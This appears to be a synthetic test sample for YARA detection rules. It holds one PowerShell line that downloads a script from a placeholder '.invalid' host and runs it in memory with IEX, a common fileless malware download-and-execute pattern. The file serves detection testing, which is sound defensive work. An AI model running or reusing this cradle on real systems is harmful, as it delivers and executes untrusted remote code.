# Vigil YARA test sample: synthetic; the host name does not exist.
IEX (New-Object Net.WebClient).DownloadString('http://update.example.invalid/a.ps1')
